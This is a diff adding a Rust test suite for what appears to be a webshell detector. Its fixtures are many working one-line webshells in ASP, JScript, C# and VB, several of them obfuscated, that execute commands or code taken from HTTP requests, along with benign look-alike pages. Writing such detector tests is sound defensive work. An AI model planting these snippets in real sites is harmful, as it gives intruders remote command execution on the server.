@@ -1,0 +1,167 @@
+//! Each way of hiding or reaching something, once with a visitor behind it and once without.
+
+use assize_webshell::{Channel, Effect, Found, Grade, Told, Way, look};
+
+fn grade(page: &str, name: &str) -> Grade {
+    look(page.as_bytes(), name).grade
+}
+
+fn flow(found: &Found) -> (&Effect, &str, Vec<(Channel, Option<&str>)>) {
+    let told = found.reasons.iter().find_map(|reason| match &reason.told {
+        Told::Flow { effect, sink, sources, .. } => Some((
+            effect,
+            sink.as_str(),
+            sources.iter().map(|source| (source.channel, source.key.as_deref())).collect(),
+        )),
+        _ => None,
+    });
+    told.unwrap_or_else(|| panic!("no flow in {found:?}"))
+}
+
+#[track_caller]
+fn certain(page: &str, name: &str) {
+    let found = look(page.as_bytes(), name);
+    assert_eq!(found.grade, Grade::Certain, "{page}\n{found:?}");
+}
+
+#[test]
+fn the_explanation_names_source_way_and_sink() {
+    let page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load() {\n  string a = Request.Form[\"klk123456\"];\n  Go(a);\n}\nvoid Go(string b) {\n  System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + b);\n}\n</script>";
+    let found = look(page.as_bytes(), "x.aspx");
+    assert_eq!(flow(&found), (&Effect::Run, "process.start", vec![(Channel::Form, Some("klk123456"))]));
+    assert_eq!(found.keys, ["klk123456"]);
+    assert_eq!((found.reasons[0].line, found.reasons[0].column), (8, 29));
+    let Told::Flow { ways, .. } = &found.reasons[0].told else { panic!("{found:?}") };
+    assert_eq!(ways.as_slice(), [(Way::Named("a".into()), 4), (Way::Passed("Go".into()), 7)]);
+}
+
+#[test]
+fn words_hidden_in_basic() {
+    for page in [
+        "<%execute request(\"a\")%>",
+        "<%a=request(\"a\")%><%eval a%>",
+        "<%Execute(StrReverse(\")\"\"a\"\"(tseuqer lave\"))%>",
+        "<%executeglobal(replace(\"evXal(reqXuest(\"\"a\"\"))\",\"X\",\"\"))%>",
+        "<%execute(Chr(101)&Chr(118)&\"al request(\"&chr(34)&\"a\"&chr(34)&\")\")%>",
+        "<%Execute(D(\"%119%136%115%126%50%132%119%131%135%119%133%134%58%52%116%115%133%119%52%59\")):Function D(S):S=Split(S,\"%\"):For I=1 To Ubound(S):D=D&Chr(S(I)-18):Next:End Function%>",
+        "<%Set o = Server.CreateObject(\"ScriptControl\")\no.language = \"vbscript\"\no.addcode(Request(\"c\"))%>",
+        "<%\nClass A\nPrivate Sub Class_Initialize\neval (request(\"a\"))\nEnd Sub\nEnd Class\nSet X = New A\n%>",
+        "<%Session(\"k\")=request(\"a\")%><%execute(Session(\"k\"))%>",
+        "<%Set s=CreateObject(\"WScr\"&\"ipt.Shell\"):response.write s.exec(\"cmd /c \"&request(\"c\")).stdout.readall%>",
+        "<object runat=server id=w classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><%w.run request(\"c\")%>",
+        "<%'<% loop <%:%><%execute request(\"sb\")%>",
+    ] {
+        certain(page, "x.asp");
+    }
+}
+
+#[test]
+fn words_hidden_in_jscript() {
+    for code in [
+        "eval(Request.Item[\"a\"],\"unsafe\");",
+        "\\u0065val(Request[\"a\"]);",
+        "var l={'n':Request.form('x'),'e':eval};l.e(l.n+'');",
+        "function _(x){if(x){return Request('_')+''}else{return eval}}_()(_(!-''));",
+        "this[\"ev\"+\"al\"](Request[\"a\"]);",
+        "var P=\"ev\"+\"al(Re\"+\"quest['a'])\";eval(P,\"un\"+\"safe\");",
+        "var e=eval;e(Request.Headers[\"x\"]);",
+        "new Function(\"a\",Request[\"b\"])();",
+    ] {
+        certain(&format!("<%@ Page Language=\"Jscript\"%><%{code}%>"), "x.aspx");
+    }
+}
+
+#[test]
+fn ways_of_csharp() {
+    for code in [
+        "System.Reflection.Assembly.Load(Convert.FromBase64String(Request[\"a\"])).CreateInstance(\"U\").Equals(this);",
+        "byte[] c = new byte[Request.InputStream.Length]; Request.InputStream.Read(c, 0, c.Length); System.Reflection.Assembly.Load(c);",
+        "typeof(System.Reflection.Assembly).GetMethod(\"Lo\" + \"ad\", new Type[]{typeof(byte[])}).Invoke(null, new object[]{Request.BinaryRead(5)});",
+        "var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + Request.QueryString[\"c\"]; p.Start();",
+        "var i = new ProcessStartInfo { FileName = \"cmd\", Arguments = Request[\"c\"] }; Process.Start(i);",
+        "var p = Process.Start(\"cmd.exe\"); p.StandardInput.WriteLine(Request[\"c\"]);",
+        "dynamic t = Activator.CreateInstance(Type.GetTypeFromProgID(\"WScript.Shell\")); t.Run(Request[\"c\"]);",
+        "var ps = PowerShell.Create(); ps.AddScript(Request[\"c\"]); ps.Invoke();",
+        "var r = new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request.Form[\"s\"]);",
+        "new System.Management.ManagementClass(\"Win32_Process\").InvokeMethod(\"Create\", new object[]{Request[\"c\"]});",
+        "var x = new System.Xml.Xsl.XslCompiledTransform(); var d = new XmlDocument(); d.LoadXml(Request[\"x\"]); x.Load(d);",
+        "Func<string, string> f = s => s.Trim(); Process.Start(f(Request[\"c\"]));",
+        "var sb = new StringBuilder(); sb.Append(\"/c \"); sb.Append(Request[\"c\"]); Process.Start(\"cmd\", sb.ToString());",
+        "Process.Start(\"cmd\", $\"/c {Request[\"c\"]}\");",
+    ] {
+        certain(&format!("<%@ Page Language=\"C#\"%><%{code}%>"), "x.aspx");
+    }
+}
+
+#[test]
+fn other_files_that_servers_run() {
+    certain(
+        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(c.Request[\"a\"]); } }",
+        "h.ashx",
+    );
+    certain(
+        "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S { [WebMethod] public string Run(string cmd) { return Process.Start(\"cmd\", cmd).ToString(); } }",
+        "s.asmx",
+    );
+    certain("@{ var c = Request[\"c\"]; System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c); }", "s.cshtml");
+    certain("@Code\nDim c = Request(\"c\")\nSystem.Diagnostics.Process.Start(\"cmd.exe\", c)\nEnd Code", "s.vbhtml");
+    certain(
+        "<?xml version=\"1.0\"?>\n<configuration/>\n<!-- <% Set s=CreateObject(\"WScript.Shell\"):s.Run Request(\"c\") %> -->",
+        "web.config",
+    );
+    certain(
+        "<%@ Page Language=\"VB\"%><script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n Dim p As New ProcessStartInfo(\"cmd\")\n p.Arguments = t.Text\n Process.Start(p)\nEnd Sub\n</script><asp:TextBox id=\"t\" runat=\"server\"/>",
+        "v.aspx",
+    );
+    assert_eq!(
+        grade(
+            "<handlers><add name='x' path='*.png' verb='*' type='System.Web.UI.PageHandlerFactory'/></handlers>",
+            "web.config"
+        ),
+        Grade::Likely
+    );
+}
+
+#[test]
+fn containers() {
+    let script =
+        "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"x\"],\"unsafe\");}</script>";
+    certain(
+        &format!(
+            "Name : OAB (Default Web Site)\nInternalUrl : https://ex/OAB\nExternalUrl : http://f/{script}\nWhenChanged : 1"
+        ),
+        "x.aspx",
+    );
+    let mut pst = b"!BDN\x01\x02\x03\x04".to_vec();
+    pst.extend_from_slice(&[0; 600]);
+    pst.extend_from_slice(script.as_bytes());
+    assert_eq!(look(&pst, "x.aspx").grade, Grade::Certain);
+    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    assert_eq!(look(&wide, "x.aspx").grade, Grade::Certain);
+}
+
+#[test]
+fn the_same_calls_without_a_visitor() {
+    for (page, name) in [
+        ("<%@ Page Language=\"C#\"%><%# Eval(\"Name\") %><%= DataBinder.Eval(x, \"y\") %>", "a.aspx"),
+        (
+            "<%Set c=Server.CreateObject(\"ADODB.Connection\"):c.Open \"dsn\":Set r=c.Execute(\"select * from t where id=\" & CInt(request(\"id\")))%>",
+            "a.asp",
+        ),
+        ("<%IsError = eval(Me.ID < 0)%>", "a.asp"),
+        (
+            "<%@ Page Language=\"C#\"%><%var t = File.ReadAllText(Server.MapPath(\"~/a.txt\")); Response.Write(t);%>",
+            "a.aspx",
+        ),
+        ("<%Set re = New RegExp:re.Pattern=\"a\":Set m = re.Execute(request(\"q\"))%>", "a.asp"),
+        (
+            "<%@ Page Language=\"C#\"%><%int id = int.Parse(Request[\"id\"]); Process.Start(\"x.exe\", id.ToString());%>",
+            "a.aspx",
+        ),
+        ("<html><script>eval(location.hash)</script></html>", "a.aspx"),
+    ] {
+        assert!(grade(page, name) <= Grade::Suspicious, "{page}: {:?}", look(page.as_bytes(), name));
+    }
+    assert_eq!(grade("<%@ Page Language=\"C#\"%><%# Eval(\"Name\") %>", "a.aspx"), Grade::None);
+    assert_eq!(grade("<p>nothing</p>", "a.html"), Grade::None);
+}
